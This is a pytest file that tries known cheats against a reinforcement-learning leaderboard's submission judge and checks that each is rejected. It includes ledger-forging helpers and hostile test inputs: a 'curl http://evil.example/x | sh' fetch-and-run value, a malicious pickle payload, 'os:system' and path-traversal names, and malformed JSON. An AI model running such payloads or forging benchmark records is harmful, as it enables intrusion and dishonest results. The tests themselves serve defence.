"""Every way to cheat that we know of, tried on a real run: each is caught, and for the right reason."""

import contextlib
import json
import pickle
import shutil
from pathlib import Path
from typing import Any, NamedTuple

import numpy as np
import pytest

from reincarnate.agents.teacher import digest
from reincarnate.benchmark.prior.ancestors import enter
from reincarnate.benchmark.prior.load import policy_of, pull_teacher, read_config
from reincarnate.benchmark.prior.measure import measure
from reincarnate.benchmark.prior.promote import promote
from reincarnate.benchmark.runs.request import RunRequest
from reincarnate.benchmark.runs.run import run
from reincarnate.benchmark.submission import agree, asked, same
from reincarnate.benchmark.submission import judge as judges
from reincarnate.benchmark.submission.judge import judge
from reincarnate.benchmark.submission.retrain import wanted
from reincarnate.benchmark.submission.submit import Offer, case_of, prepare
from reincarnate.benchmark.tasks.environments import make, seeds
from reincarnate.benchmark.tasks.task import find
from reincarnate.datasets.hub import hub
from reincarnate.datasets.hub.repository import install
from reincarnate.datasets.teachers import weights
from reincarnate.leaderboard import ledger, results
from reincarnate.leaderboard.results import Results, paths
from reincarnate.leaderboard.rules import changes
from reincarnate.leaderboard.submission import Source, Submission, Verdict, parse

from ...leaderboard.makers import record, submission
from ..prior.test_load import teacher as foreign

TASK = "gym/CartPole-v1"
PINNED = "c" * 40
PRICES: list[Source] = []  # of the honest run's teacher


class Honest(NamedTuple):
    """Make a submission without any fault."""

    folder: Path
    one: Submission


@pytest.fixture(scope="module")
def honest(tmp_path_factory):
    """Return a student fine-tuned from a teacher on the bundled hub."""
    at = tmp_path_factory.mktemp("honest")
    how: dict[str, Any] = {
        "budget": "steps=200,updates=100",
        "settings": {"warmup": 50},
        "episodes": 4,
        "points": (0, 1),
    }
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv(hub.BUNDLE, str(at / "bundle"))
        patch.setattr("secrets.randbelow", lambda n: 7)  # the same seeds each time, and so no bad luck
        run(TASK, "dqn", out=at / "first", **how)
        promote(at / "first", at / "teacher", "lab/pole", episodes=4)
        ref = f"lab/pole@{install(at / 'teacher', 'lab/pole', 'model', at / 'bundle').revision}"
        how["settings"] = {"warmup": 50, "learning_rate": 1e-3, "keep_log": False}
        run(TASK, "fine_tuning", teacher=ref, out=at / "run", **how)
        (at / "results").mkdir()
        PRICES[:] = enter({ref: "teacher"}, at / "results", ["bundled"])
        plan = prepare([at / "run"], at / "sent", results.read(at / "results"), Offer("ann"))
        assert [one.reasons for one in plan.verdicts] == [()] and plan.verdicts[0].state == "re-scored"
        yield Honest(at / "sent", plan.runs[0])


@pytest.fixture
def mine(honest, tmp_path):
    """Return a copy of it to cheat with."""
    shutil.copytree(honest.folder, tmp_path / "sent")
    return Honest(tmp_path / "sent", honest.one.model_copy(update={"student": f"ann/x@{PINNED}"}))


def reasons(mine: Honest, known: Results | None = None, together=()) -> str:
    verdict = judge(case_of(mine.folder, mine.one), known or nothing(mine.folder), together)
    assert verdict.state == "rejected" and verdict.accepted == ""
    return "\n".join(verdict.reasons)


def nothing(folder: Path) -> Results:
    """Return results without runs, but with the teacher's price."""
    return Results(folder, {}, {}, (), (), tuple(PRICES))


def rewritten(mine: Honest, record: dict[str, Any], change=lambda lines: None) -> Honest:
    """Return the record with these fields, and a ledger changed and sealed anew, as a careful forger does."""
    path = mine.folder / paths("ann", mine.one.record.run)[1]
    lines = ledger.read(path)
    change(lines)
    previous, sealed = ledger.START, []
    for line in lines:
        line = {**{key: value for key, value in line.items() if key != "hash"}, "previous": previous}
        previous = ledger.seal(line)
        sealed.append({**line, "hash": previous})
    path.write_text("".join(json.dumps(line) + "\n" for line in sealed))
    forged = mine.one.record.model_copy(update={**record, "ledger": previous})
    return mine._replace(one=mine.one.model_copy(update={"record": forged}))


def with_weights(mine: Honest, arrays: dict[str, np.ndarray]) -> Honest:
    """Replace the student, with a record and a ledger that say so from the beginning."""
    weights.save(mine.folder / "students" / mine.one.record.run / "policy.safetensors", arrays)
    last = mine.one.record.points[-1].model_copy(update={"parameters": digest(arrays)})

    def change(lines):
        lines[-1]["parameters"] = digest(arrays)

    return rewritten(mine, {"points": (*mine.one.record.points[:-1], last)}, change)


def teacher(mine: Honest) -> dict[str, np.ndarray]:
    folder = hub.open_ref(mine.one.record.parents[0].reference, "model")[0]
    return {name: np.array(array) for name, array in weights.load(folder / "policy.safetensors").items()}


def test_rewriting_without_a_change_is_no_offence(mine):
    mine = rewritten(mine, {})
    assert judge(case_of(mine.folder, mine.one), nothing(mine.folder)).state == "re-scored"


def test_an_unlucky_look_at_an_honest_claim_is_followed_by_a_longer_one_and_other_episodes_make_the_score(
    mine, monkeypatch
):
    """A made-up claim would be accepted by episodes that lean towards it; they are not those that rank."""
    asked, (early, claim) = [], (point.evaluation for point in mine.one.record.points)

    def looks(*off: float):
        """Return the verdict when our episodes are off the claim's by so much, of the first point's by nothing."""
        told = iter(off)

        def play(policy, guide, task, seed, episodes):
            if not asked:
                asked.append(0)
                return early, None
            asked.append(episodes)
            returns = np.resize(claim.returns, episodes) + next(told)
            lengths = tuple(np.resize(claim.lengths, episodes).tolist())
            return claim.model_copy(update={"returns": tuple(returns.tolist()), "lengths": lengths}), None

        asked.clear()
        monkeypatch.setattr(judges, "play", play)
        return judge(case_of(mine.folder, mine.one), nothing(mine.folder))

    plain = looks(0.0, -3.0)
    assert plain.state == "re-scored" and asked == [0, agree.LEAST, agree.LEAST]
    assert plain.rescored and plain.rescored.mean == pytest.approx(claim.mean - 3.0, abs=0.1)
    fair = looks(1e3, 0.0, 0.0)
    assert fair.state == "re-scored" and fair.reasons == () and fair.accepted and fair.rescored
    assert asked[1:] == [agree.LEAST, agree.AGAIN * agree.LEAST, agree.LEAST]
    assert len(fair.rescored.returns) == agree.LEAST
    forged = looks(-1e3, -1e3)
    assert forged.state == "rejected" and "what the weights reach on fresh seeds" in forged.reasons[0]


def test_the_teachers_weights_handed_in_as_a_student(mine):
    assert "is one of its parents: it has learned nothing" in reasons(with_weights(mine, teacher(mine)))


def test_the_teachers_weights_with_a_little_noise(mine):
    arrays = {name: array + np.float32(1e-6) for name, array in teacher(mine).items()}
    assert "it acts like it on 100.0%" in reasons(with_weights(mine, arrays))


def test_other_weights_than_those_of_the_record(mine):
    path = mine.folder / "students" / mine.one.record.run / "policy.safetensors"
    weights.save(path, {name: array * 1.5 for name, array in weights.load(path).items()})
    assert "the weights are not those of the record's last point" in reasons(mine)


def test_a_record_edited_after_the_fact(mine):
    last = mine.one.record.points[-1]
    better = last.evaluation.model_copy(update={"returns": tuple(x + 1 for x in last.evaluation.returns)})
    points = (*mine.one.record.points[:-1], last.model_copy(update={"evaluation": better}))
    forged = mine._replace(
        one=mine.one.model_copy(update={"record": mine.one.record.model_copy(update={"points": points})})
    )
    assert "its totals or returns are not those of the record" in reasons(forged)


def test_a_claim_that_the_weights_do_not_keep(mine):
    """Record and ledger agree, but the weights do not play that well."""
    last = mine.one.record.points[-1]
    returns = [500.0] * len(last.evaluation.returns)
    better = last.evaluation.model_copy(update={"returns": tuple(returns), "lengths": (500,) * len(returns)})

    def change(lines):
        lines[-1].pop("returns", None)
        lines[-1]["evaluation"] = json.loads(better.model_dump_json())

    points = (*mine.one.record.points[:-1], last.model_copy(update={"evaluation": better}))
    assert "the claim 500.00 is not within" in reasons(rewritten(mine, {"points": points}, change))


def test_a_ledger_spliced_from_two_runs(mine, honest):
    path = mine.folder / paths("ann", mine.one.record.run)[1]
    other = ledger.read(honest.folder.parent / "first" / "ledger.jsonl")
    path.write_text("".join(json.dumps(line) + "\n" for line in [*other[:2], *ledger.read(path)[2:]]))
    told = reasons(mine)
    assert "is not chained to the one before" in told and "differ in run" in told


def test_counters_that_go_back_on_resume(mine):
    def change(lines):
        before = lines[-1]["spent"]
        again = {**lines[-2], "event": "resume", "spent": dict(before), "method_code": lines[0].get("method_code")}
        lines.insert(len(lines) - 1, again)
        lines[-1] = {**lines[-1], "spent": {**before, "updates": before["updates"] - 50, "flops": before["flops"] / 2}}

    told = reasons(rewritten(mine, {}, change))
    assert "updates went back" in told and "flops went back" in told


def test_a_budget_that_is_exceeded(mine):
    def change(lines):
        lines[0]["budget"] = {"steps": 100.0}

    assert "steps are more than the budget's 100" in reasons(rewritten(mine, {"budget": {"steps": 100.0}}, change))


def test_a_budget_that_is_relabelled(mine):
    """Only in the record, then in the ledger as well, but not in the command that made it."""
    relabelled = mine._replace(
        one=mine.one.model_copy(update={"record": mine.one.record.model_copy(update={"budget": {"steps": 900.0}})})
    )
    assert "differ in budget" in reasons(relabelled)

    def change(lines):
        lines[0]["budget"] = {"steps": 900.0}

    assert "is not what was asked for" in reasons(rewritten(mine, {"budget": {"steps": 900.0}}, change))


@pytest.mark.parametrize(
    ("key", "value"),
    [("sticky", 0.5), ("env", "Acrobot-v1"), ("mode", 3), ("max_steps", 99), ("evaluation_epsilon", 0.5)],
)
def test_another_protocol_game_or_mode(mine, key, value):
    protocol = {**mine.one.record.protocol, key: value}

    def change(lines):
        lines[0]["protocol"] = protocol

    assert f"record.protocol.{key}: {value} is not the task's" in reasons(
        rewritten(mine, {"protocol": protocol}, change)
    )


def test_a_task_that_imports_a_module(mine):
    told = reasons(
        mine._replace(
            one=mine.one.model_copy(update={"record": mine.one.record.model_copy(update={"task": "gym/os:x-v0"})})
        )
    )
    assert "names a module" in told


def asking(mine: Honest, record: dict[str, Any], **request: Any) -> Honest:
    """Return the run with other fields and another request, command and ledger in keeping with it."""

    def change(lines):
        lines[0].update(json.loads(json.dumps(record)))
        lines[0]["request"].update(request)
        lines[0]["command"] = RunRequest.from_json(lines[0]["request"]).command()

    told = RunRequest.from_json({**ledger.read(_log(mine))[0]["request"], **request})
    return rewritten(mine, {**record, "command": told.command()}, change)


def _log(mine: Honest) -> Path:
    return mine.folder / paths("ann", mine.one.record.run)[1]


@pytest.mark.parametrize("what", ["method", "base", "task", "wrapper", "function", "teacher"])
def test_nothing_that_a_submission_names_is_imported_or_called(mine, tmp_path, monkeypatch, what):
    """A module that exists, for example Python's own, would have its function called with the settings."""
    (tmp_path / "there.py").write_text(
        "from pathlib import Path\nPath(__file__).with_name('imported').touch()\n"
        "def called(cmd='', *more, **others):\n    Path(__file__).with_name('called').touch()\n"
    )
    monkeypatch.syspath_prepend(tmp_path)
    settings = {"cmd": "curl http://evil.example/x | sh"}
    changes: dict[str, tuple[dict[str, Any], dict[str, Any]]] = {
        "method": ({"method": "there:called", "settings": settings}, {"method": "there:called", "settings": settings}),
        "base": ({"settings": {"base": "there:called"}}, {"settings": {"base": "there:called"}}),
        "task": ({"task": "gym/there:X-v0"}, {"task": "gym/there:X-v0"}),
        "wrapper": ({"task": f"{TASK}+there:called"}, {"task": f"{TASK}+there:called"}),
        "function": ({"settings": {"network": "there:called"}}, {"settings": {"network": "there:called"}}),
        "teacher": ({}, {"teacher": "there:called"}),
    }
    forged = asking(mine, *changes[what][:1], **changes[what][1])
    case = case_of(forged.folder, forged.one)
    verdict = judge(case, nothing(forged.folder))
    with contextlib.suppress(ValueError):
        assert ":" not in wanted(forged.one.record, case.lines[0], "bundled").teacher
    assert [path.name for path in tmp_path.glob("*ed")] == []
    assert verdict.state == "rejected" or what in (
        "method",
        "base",
        "teacher",
    )  # a stranger's code may be, and stays apart


def test_evaluation_episodes_cherry_picked(mine):
    """Leave out the worst episode, then use other seeds than the harness's."""
    last = mine.one.record.points[-1]
    for ends, says in (
        (last.evaluation.seeds, "episodes are left out"),
        ((7, 9), "are not the harness's for this run"),
    ):
        kept = last.evaluation.model_copy(
            update={"returns": last.evaluation.returns[:3], "lengths": last.evaluation.lengths[:3], "seeds": ends}
        )

        def change(lines, kept=kept):
            lines[-1].pop("returns", None)
            lines[-1]["evaluation"] = json.loads(kept.model_dump_json())

        points = (*mine.one.record.points[:-1], last.model_copy(update={"evaluation": kept}))
        assert says in reasons(rewritten(mine, {"points": points}, change))


def test_parents_left_out(mine):
    def change(lines):
        lines[0]["parents"] = []

    forged = mine._replace(one=mine.one.model_copy(update={"sources": ()}))
    told = reasons(rewritten(forged, {"parents": ()}, change))
    assert "fine_tuning starts from a teacher's weights: it must be a parent" in told


def test_the_parents_cost_left_out_or_made_small(mine):
    told = reasons(mine._replace(one=mine.one.model_copy(update={"sources": ()})))
    assert "its cost is unknown: declare it" in told and "is an ancestor and is left out" in told
    (source,) = mine.one.sources
    cheap = source.model_copy(update={"spent": {"flops": 1.0}})
    told = reasons(mine._replace(one=mine.one.model_copy(update={"sources": (cheap,)})))
    assert "is declared with a cost or parents" in told


def test_a_parent_that_does_not_resolve(mine):
    parents = (mine.one.record.parents[0].model_copy(update={"reference": f"lab/nowhere@{PINNED}"}),)

    def change(lines):
        lines[0]["parents"] = [parents[0].model_dump()]

    assert "has no model lab/nowhere" in reasons(rewritten(mine, {"parents": parents}, change))


def settings_of(mine: Honest, preset: str = "", measured=None, resolved=None, **changes) -> Honest:
    """Return the run with other settings than it was asked for, in record and ledger alike."""
    record = mine.one.record
    told: dict[str, Any] = {"settings": {**record.settings, **changes}, "preset": preset or record.preset}
    told |= {"measured": measured} if measured else {}
    told |= {"resolved": {**record.resolved, **resolved}} if resolved else {}
    return rewritten(mine, told, lambda lines: lines[0].update(told))


def test_settings_that_nobody_asked_for(mine):
    """A keyword that no preset has, another value of one that it has, another preset, and a unit of the teacher."""
    assert mine.one.record.preset == "classic"
    told = reasons(settings_of(mine, reset_period=9))
    assert "settings.reset_period: it was not asked for, and no preset has such a row" in told
    told = reasons(settings_of(mine, discount=0.9))
    assert "settings.discount: 0.9 is neither asked for nor from the preset classic, where it is not there" in told
    told = reasons(settings_of(mine, epsilon=0.5))
    assert "settings.epsilon: 0.5 is neither asked for nor from the preset classic, where it is 0.05" in told
    assert "is not that of this task and budget, classic" in reasons(settings_of(mine, preset="minatar"))
    assert "'none' is not what was asked for, or no preset" in reasons(settings_of(mine, preset="none"))
    assert "settings.learning_rate: 0.5 is not what was asked for" in reasons(settings_of(mine, learning_rate=0.5))


def test_a_preset_that_another_version_had_is_a_remark(mine):
    """Presets change between versions: an honest run of an older one is judged as it was."""
    machine = {**mine.one.record.machine, "code": "f" * 64}
    older = settings_of(mine, epsilon=0.07)
    older = rewritten(older, {"machine": machine}, lambda lines: lines[0].update(machine=machine))
    verdict = judge(case_of(older.folder, older.one), nothing(older.folder))
    assert verdict.state == "re-scored"
    assert [told.partition(" is ")[0] for told in verdict.reasons] == [
        "of another version's preset: record.settings.epsilon: 0.07"
    ]


def test_what_relative_settings_came_to_is_measured_again(mine):
    task, guides = find(TASK), judges._parents(mine.one.record, find(TASK), ["bundled"])[0].policies
    gap = measure(task, guides[0], ["gap"])["gap"]
    settings = {**mine.one.record.settings, "weight": "2gap"}
    good = {"settings": settings, "measured": {"gap": gap}, "resolved": {"weight": float(f"{2 * gap:.4g}")}}
    for change, says in (
        ({}, ""),
        ({"measured": {"gap": 3 * gap}}, "record.measured.gap"),
        ({"resolved": {"weight": 9.0}}, "record.resolved.weight: 9.0 is not what 2gap resolves to"),
    ):
        found = asked._relative(mine.one.record.model_copy(update={**good, **change}), task, guides)
        assert (found == []) if not says else found[0].startswith(says), (found, says)


@pytest.mark.parametrize("size", [0.0, 1e-4])
def test_somebody_elses_student_as_an_early_point(mine, honest, size):
    """A curve, its area and the cost to reach the teacher count every point: none may be another's student."""
    rng = np.random.default_rng(0)
    strong = {
        name: array + size * np.abs(array).max() * rng.standard_normal(array.shape).astype("f4")
        for name, array in theirs(honest).items()
    }
    first = mine.one.record.points[0].model_copy(update={"parameters": digest(strong)})
    weights.save(mine.folder / "students" / mine.one.record.run / first.file, strong)
    points = (first, mine.one.record.points[-1])
    stolen = rewritten(
        mine,
        {"points": points},
        lambda lines: next(x for x in lines if x["event"] == "point").update(parameters=digest(strong)),
    )
    task, run = find(TASK), record("bobs", task=TASK, method="dqn")
    last = run.points[-1].model_copy(update={"parameters": digest(theirs(honest))})
    arrays = theirs(honest)
    config = read_config(honest.folder / "students" / honest.one.record.run)
    policy = policy_of(config, make(task, seeds("verification", 0, 1)), arrays, "theirs")
    text = same.fingerprint(policy, arrays, task).text()
    known = nothing(mine.folder)._replace(
        submissions={"bobs": submission(run.model_copy(update={"points": (run.points[0], last)}), "bob")},
        verdicts={"bobs": Verdict(run="bobs", state="re-scored", fingerprint=text, parameters=digest(arrays))},
    )
    told = reasons(stolen, known)
    assert "record.points.0: the student" in told and "run bobs of bob" in told


def theirs(honest: Honest) -> dict[str, np.ndarray]:
    """Return weights that nobody trained and that bob has submitted: nothing else is like them."""
    rng, arrays = np.random.default_rng(5), {}
    path = honest.folder / "students" / honest.one.record.run / "policy.safetensors"
    for name, array in sorted(weights.load(path).items()):
        arrays[name] = rng.standard_normal(array.shape).astype("f4")
    return arrays


def test_somebody_elses_path_overwritten():
    assert changes("bob", {p: 10 for p in paths("bob", "r1")}, [], []) == []
    assert "only results/bob/" in changes("bob", {p: 10 for p in paths("ann", "r1")}, [], [])[0]
    assert "is changed" in changes("bob", {p: 10 for p in paths("bob", "r1")}, ["results/ann/r0.json"], [])[0]
    assert "is removed" in changes("bob", {p: 10 for p in paths("bob", "r1")}, [], ["results/ann/r0.json"])[0]
    for path in ("results/bob/../ann/r1.json", "suites/x.json", "results/bob/r1.json/x", "verdicts/bob/r1.json"):
        assert changes("bob", {path: 10}, [], []) != []
    assert "comes alone" in changes("bob", {"results/bob/r1.json": 10}, [], [])[0]


def test_a_run_that_is_there_already(mine, honest):
    known = nothing(mine.folder)._replace(
        submissions={mine.one.record.run: honest.one.model_copy(update={"author": "bob"})}
    )
    assert "is already there, by bob: a record is never replaced" in reasons(mine, known)


def test_a_student_file_that_is_a_pickle(mine):
    class Evil:
        def __reduce__(self):
            return (open, (str(mine.folder / "harmed"), "w"))

    student = mine.folder / "students" / mine.one.record.run
    (student / "policy.safetensors").write_bytes(pickle.dumps(Evil()))
    assert "safetensors file" in reasons(mine)
    (student / "policy.pkl").write_bytes(pickle.dumps(Evil()))
    assert "policy.pkl does not belong there" in reasons(mine)
    assert not (mine.folder / "harmed").exists()


@pytest.mark.parametrize("name", ["os:system", "reincarnate.agents.networks:Conv", "../evil"])
def test_a_config_that_names_code(mine, name):
    path = mine.folder / "students" / mine.one.record.run / "config.json"
    config = json.loads(path.read_text())
    path.write_text(json.dumps({**config, "architecture": {**config["architecture"], "name": name}}))
    assert "names code" in reasons(mine)


def test_two_users_submitting_the_same_weights(mine, honest):
    theirs = honest.one.record.model_copy(update={"run": "bobs"})
    known = nothing(mine.folder)._replace(
        submissions={"bobs": honest.one.model_copy(update={"author": "bob", "record": theirs})}
    )
    assert "have the same weights" in reasons(mine, known)


@pytest.mark.parametrize(
    ("field", "version", "says"),
    [("record", 99, "newer than"), ("record", 0, "older than"), ("", 2, "newer than"), ("", "1", "must be")],
)
def test_a_record_from_a_newer_or_older_schema(honest, field, version, says):
    content = json.loads(honest.one.model_dump_json())
    (content[field] if field else content)["schema_version"] = version
    with pytest.raises(ValueError, match=says) as told:
        parse(json.dumps(content).encode(), Submission, "x.json")
    assert f"x.json: {'record.' if field else ''}schema_version" in str(told.value)


@pytest.mark.parametrize(
    ("data", "says"),
    [
        (b"[" * 100_000, "nests"),
        (b'{"a": NaN}', "not a finite number"),
        (b'{"a": 1e999}', "beyond the range of floats"),
        (b'{"a": 1, "a": 2}', "twice"),
        (b"\xff\xfe", "not written in UTF-8"),
        (b"[]", "no JSON object"),
        (b" " * (8 * 2**20 + 1), "more than"),
        (b'{"schema_version": 1, "author": "../x"}', "author: it must be letters"),
    ],
)
def test_hostile_json(data, says):
    with pytest.raises(ValueError, match=says):
        parse(data, Submission, "x.json")


def test_another_teacher_from_elsewhere_under_the_same_reference(tmp_path, monkeypatch):
    """The teacher's own files are read and their digest is compared: no claim is trusted."""
    (tmp_path / "theirs").mkdir()
    foreign(tmp_path / "theirs", "cleanrl-dqn_jax")
    monkeypatch.setenv(hub.BUNDLE, str(tmp_path / "bundle"))
    ref = f"cleanrl/pole@{install(tmp_path / 'theirs', 'cleanrl/pole', 'model', tmp_path / 'bundle').revision}"
    told = pull_teacher(ref, "bundled", find(TASK))[1]
    assert told is not None
    for seal, says in ((told.digest, []), ("f" * 64, [f"record.parents.0.digest: {ref} has different weights"])):
        one = record("r1", told.model_copy(update={"digest": seal}))
        above, found = judges._parents(one, find(TASK), ["bundled"])
        assert found == says and len(above.policies) == 1
